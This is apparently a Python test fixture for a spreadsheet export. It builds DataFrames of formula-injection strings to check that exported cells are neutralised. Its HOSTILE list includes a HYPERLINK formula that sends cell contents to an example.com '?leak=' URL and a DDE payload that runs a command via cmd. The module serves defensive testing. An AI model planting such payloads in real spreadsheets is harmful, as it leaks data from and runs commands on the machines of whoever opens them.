"""Hostile tables for the export tests: ids, categories and reason texts that try to start a
formula, beside numbers (negative ones included) that must stay numbers."""

from __future__ import annotations

import re

import numpy as np
import pandas as pd

# Each one starts a formula in some spreadsheet, or would once stripped of what precedes it.
HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\x00=1+1",
    "\uff1d1+1",  # ＝
    "\uff0b1+1",  # ＋
    "\uff0d1+1",  # －
    "\uff20SUM(1,1)",  # ＠
    "\u22125",  # − minus sign
    " =1+1",
    "\u3000=1+1",
    '=HYPERLINK("http://example.com/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
]
PLAIN_IDS = ["00123", "C-9", "0007"]
CHINESE = "客户流失风险：最近三个月消费下降了35%"


def hostile_frame() -> pd.DataFrame:
    """One row per hostile text (as id, category and reason), then plain and Chinese rows."""
    n = len(HOSTILE) + len(PLAIN_IDS) + 1
    ids = [*HOSTILE, *PLAIN_IDS, "中文-001"]
    reasons = [*HOSTILE, "Spend fell 35%", "Two complaints", "a=b", CHINESE]
    return pd.DataFrame(
        {
            "customer_id": pd.Series(ids, dtype="str"),
            "segment": pd.Categorical([*HOSTILE, "inactive", "inactive", "-lapsed", "高价值"]),
            "reason_1": pd.Series(reasons, dtype="str"),
            "note": pd.Series([*reasons[:-1], None], dtype=object),
            "expected_gain": np.linspace(-5.5, 10.0, n),
            "rank": np.arange(1, n + 1) * -1,
            "churn_probability": np.r_[np.full(n - 1, 0.25), np.nan],
            "as_of": pd.Timestamp("2025-06-30"),
            "listed": np.arange(n) % 2 == 0,
        }
    )


def excel_text(value: str) -> str:
    """What Excel shows for a stored string: ``_xHHHH_`` escapes decoded (openpyxl does not)."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda match: chr(int(match.group(1), 16)), value)
